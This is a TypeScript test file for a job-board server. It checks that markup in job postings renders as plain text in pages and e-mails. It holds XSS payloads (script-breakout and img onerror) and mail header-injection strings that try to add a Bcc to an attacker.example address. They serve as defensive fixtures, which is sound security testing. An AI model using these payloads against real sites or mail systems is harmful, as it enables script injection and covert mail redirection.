import { rmSync } from 'node:fs';
import type { InjectOptions } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { VALID_SUBMISSION } from '@jobboard/contract/testing';
import { signedIn } from '../support/admin';
import { jobInput, pay } from '../support/jobs';
import { fakeReleases } from '../support/releases';
import { SmtpPeer, type ReceivedMail } from '../support/smtp-peer';
import { buildTestApp, testDatabase, type TestApp } from '../support/test-app';
import { injectWithProof } from '../support/human-proof';

/**
 * Markup in every text of a job is text everywhere the server writes it: in the page it renders
 * (the first view's data is inlined in a script element) and in every e-mail (plain text, one
 * subject line, no extra headers). The browser side is the e2e test hostile-text.spec.ts.
 */

const SCRIPT = '</script><script>alert(1)</script>';
const IMG = '"><img src=x onerror=alert(1)>';
const BOTH = `${SCRIPT}${IMG}`;
/** A line break and a header after it, in each kind a mail header could be split on. */
const HEADER_BREAKS = '\r\nBcc: thief@attacker.example\n\u2028\u0085X-Injected: yes';

let t: TestApp;
let smtp: SmtpPeer;
let releases: string;
let admin: (options: InjectOptions) => ReturnType<TestApp['app']['inject']>;

beforeAll(async () => {
  smtp = await new SmtpPeer().start();
  releases = fakeReleases();
  t = await buildTestApp({
    env: {
      RELEASES_DIR: releases,
      SMTP_URL: smtp.url,
      ADMIN_EMAIL: 'review@board.example',
      SUBMISSION_RATE_LIMIT_MAX: '100',
    },
  });
  admin = (await signedIn(t)) as typeof admin;
});
afterAll(async () => {
  await t.close();
  await smtp.stop();
  rmSync(releases, { recursive: true, force: true });
});

/** A job whose every text holds both payloads, created on the admin screen. */
const ADMIN_JOB = {
  title: `Editor ${BOTH}`,
  organization: `Org ${BOTH}`,
  applicationUrl: `https://example.org/apply/${BOTH}`,
  description: `About the role ${BOTH}`,
  category: [`Category ${SCRIPT}`, `Category ${IMG}`],
  locations: [`City ${SCRIPT}`, `Town ${IMG}`],
  jobType: IMG,
  via: `Via ${BOTH}`,
  postedDate: '2026-11-20',
  // Text that is not a date is kept as written (imported jobs say 'Rolling').
  deadline: `Rolling ${IMG}`,
  salaryMin: 50_000,
  salaryMax: 60_000,
  active: true,
  featured: true,
};

/** The raw message's header block and its text, quoted-printable decoded. */
function parseMail(mail: ReceivedMail) {
  const [head = '', ...rest] = mail.raw.split(/\r\n\r\n/);
  const headers = head.replace(/\r\n[ \t]+/g, ' ').split('\r\n');
  const body = rest
    .join('\r\n\r\n')
    .replace(/=\r\n/g, '')
    .replace(/(?:=[0-9A-F]{2})+/g, (hex) =>
      Buffer.from(hex.replace(/=/g, ''), 'hex').toString('utf8'),
    );
  return { headers, body };
}

/** The Subject header decoded from its MIME encoded-words. */
function subjectOf(headers: string[]): string {
  const line = headers.filter((h) => /^subject:/i.test(h));
  expect(line).toHaveLength(1);
  return line[0]!
    .replace(/^subject: /i, '')
    .replace(/\?=\s+=\?/g, '?==?')
    .replace(/=\?utf-8\?([QB])\?([^?]*)\?=/gi, (_m, encoding: string, text: string) =>
      encoding.toUpperCase() === 'B'
        ? Buffer.from(text, 'base64').toString('utf8')
        : Buffer.from(
            text
              .replace(/_/g, ' ')
              .replace(/=([0-9A-F]{2})/gi, (_h, hex: string) =>
                String.fromCharCode(parseInt(hex, 16)),
              ),
            'latin1',
          ).toString('utf8'),
    );
}

describe(`markup in job text on ${testDatabase}`, () => {
  let adminJobId: string;
  let publishedJobId: string;
  let rejectedId: string;

  it('is stored and answered as it was written, by the admin screen and the public form', async () => {
    const created = await admin({ method: 'POST', url: '/api/admin/jobs', payload: ADMIN_JOB });
    expect(created.statusCode, created.body).toBe(201);
    adminJobId = created.json().id;
    // A salary written as text comes only from imports: straight through the repository.
    await t.app.jobs.create(
      jobInput({
        title: `Imported ${BOTH}`,
        pay: pay(null, null, 'year', { text: `$50k ${BOTH}` }),
      }),
      t.app.now(),
    );

    const submitted = await injectWithProof(t.app, {
      method: 'POST',
      url: '/api/submit-job-for-review',
      payload: {
        ...VALID_SUBMISSION,
        title: `Organizer ${BOTH}${HEADER_BREAKS}`,
        organization: `Org ${BOTH}`,
        description: `${VALID_SUBMISSION.description} ${BOTH}`,
        location: `City ${BOTH}`,
        applicationUrl: `https://example.org/jobs/${BOTH}`,
        contactName: `Sam ${BOTH}${HEADER_BREAKS}`,
        contactEmail: 'sam@employer.example',
      },
    });
    expect(submitted.statusCode, submitted.body).toBe(201);
    const id = submitted.json().id;
    expect(
      (await admin({ method: 'POST', url: `/api/admin/submissions/${id}/approve` })).statusCode,
    ).toBe(200);
    const paid = await admin({ method: 'POST', url: `/api/admin/submissions/${id}/mark-paid` });
    expect(paid.statusCode, paid.body).toBe(200);
    publishedJobId = String(paid.json().jobId);

    const other = await injectWithProof(t.app, {
      method: 'POST',
      url: '/api/submit-job-for-review',
      payload: {
        ...VALID_SUBMISSION,
        title: `Writer ${BOTH}`,
        contactEmail: 'kim@employer.example',
      },
    });
    rejectedId = other.json().id;
    const rejected = await admin({
      method: 'POST',
      url: `/api/admin/submissions/${rejectedId}/reject`,
      payload: { notes: `Because ${BOTH}${HEADER_BREAKS}` },
    });
    expect(rejected.statusCode, rejected.body).toBe(200);

    const job = (await t.app.inject(`/api/jobs/${adminJobId}`)).json();
    expect(job).toMatchObject({
      title: ADMIN_JOB.title,
      organization: ADMIN_JOB.organization,
      description: ADMIN_JOB.description,
      locations: ADMIN_JOB.locations,
      jobType: IMG,
      via: ADMIN_JOB.via,
      deadline: ADMIN_JOB.deadline,
      applicationUrl: ADMIN_JOB.applicationUrl,
    });
    expect([...job.category].sort()).toEqual([...ADMIN_JOB.category].sort());
    const published = (await t.app.inject(`/api/jobs/${publishedJobId}`)).json();
    // A title is one line (normalise.ts); the markup in it is kept as written.
    expect(published.title).toMatch(
      /^Organizer <\/script><script>alert\(1\)<\/script>"><img src=x onerror=alert\(1\)> Bcc: thief@attacker\.example [^\r\n]*X-Injected: yes$/,
    );
  });

  it.each(['/', '/?q=editor', '/jobs/:admin', '/jobs/:published', '/job-list'])(
    'stays inside the page data of %s: no element, no end of the script',
    async (route) => {
      const url = route.replace(':admin', adminJobId).replace(':published', publishedJobId);
      const res = await t.app.inject(url);
      expect(res.statusCode).toBe(200);
      const html = res.body;
      // The page has exactly the script elements of the shell's own page (its inline head script,
      // shell/src/boot/before-live.js, and its entry) plus the boot data, and on a job's page its
      // JobPosting JSON-LD (issue 15).
      const scripts = route.startsWith('/jobs/') ? 4 : 3;
      expect(html.match(/<script/g)).toHaveLength(scripts);
      expect(html.match(/<\/script>/g)).toHaveLength(scripts);
      if (route.startsWith('/jobs/')) {
        const ld = /<script type="application\/ld\+json">([^<]*)<\/script>/.exec(html);
        expect(ld, 'the JSON-LD ends where the server ended it').not.toBeNull();
        const title = route.includes(':admin') ? ADMIN_JOB.title : undefined;
        if (title) expect(JSON.parse(ld![1]!).title).toBe(title);
      }
      expect(html).not.toContain('<img');
      expect(html).not.toContain('alert(1)</script>');
      const data = /<script id="boot-config" type="application\/json">([^<]*)<\/script>/.exec(html);
      expect(data, 'the boot data ends where the server ended it').not.toBeNull();
      // ... and parsed, it gives the text back exactly.
      const text = JSON.stringify(JSON.parse(data![1]!));
      expect(text).toContain(JSON.stringify(ADMIN_JOB.title));
      if (route === '/job-list') expect(text).toContain(JSON.stringify(`Imported ${BOTH}`));
      if (route === '/') expect(text).toContain(JSON.stringify(`$50k ${BOTH}`));
      if (route.includes(':published')) expect(text).toContain(JSON.stringify(`Org ${BOTH}`));
    },
  );

  it('is plain text in every e-mail, with one subject line and no header of its own', async () => {
    smtp.received.length = 0;
    const report = await t.app.mailer.flush();
    expect(report.failed + report.retrying).toBe(0);
    const templates = (await t.db('outbox').select('template')).map((m) => m.template).sort();
    expect(templates).toEqual(
      [
        'job-live',
        'new-submission',
        'new-submission',
        'submission-approved',
        'submission-received',
        'submission-received',
        'submission-rejected',
      ].sort(),
    );
    expect(smtp.received).toHaveLength(templates.length);

    const carried: string[] = [];
    for (const mail of smtp.received) {
      const { headers, body } = parseMail(mail);
      // Only the recipient the board chose: nothing added by a line break in the text.
      expect(mail.to).toHaveLength(1);
      expect(['review@board.example', 'sam@employer.example', 'kim@employer.example']).toContain(
        mail.to[0],
      );
      const names = headers.map((h) => h.slice(0, h.indexOf(':')).toLowerCase()).sort();
      expect(names).toEqual(
        [
          'content-transfer-encoding',
          'content-type',
          'date',
          'from',
          'message-id',
          'mime-version',
          'subject',
          'to',
        ].sort(),
      );
      expect(headers.find((h) => /^content-type:/i.test(h))).toMatch(/^content-type: text\/plain/i);
      const subject = subjectOf(headers);
      expect(subject).not.toMatch(/[\r\n\u2028\u0085]/);
      if (subject.includes(BOTH)) carried.push(`subject: ${subject}`);
      if (body.includes(BOTH)) carried.push(`body of ${subject}`);
    }
    // The markup did reach the e-mails, as text: the admins' notices, the employer's approval,
    // rejection and job-live messages (never the acknowledgement, which carries no submitted text).
    expect(carried.filter((c) => c.startsWith('subject:'))).toHaveLength(5);
    expect(carried.filter((c) => c.startsWith('body of'))).toHaveLength(5);
  });
});
